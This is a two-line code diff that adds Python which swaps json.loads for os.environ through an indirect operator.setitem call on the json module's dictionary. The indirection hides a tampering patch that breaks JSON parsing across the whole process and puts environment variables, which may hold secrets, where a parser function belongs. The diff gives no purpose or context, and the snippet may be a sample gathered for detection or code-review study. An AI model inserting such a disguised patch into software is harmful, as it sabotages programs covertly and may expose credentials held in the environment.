@@ -1,0 +1,2 @@
+import os, operator, json
+operator.setitem(json.__dict__, "loads", os.environ)
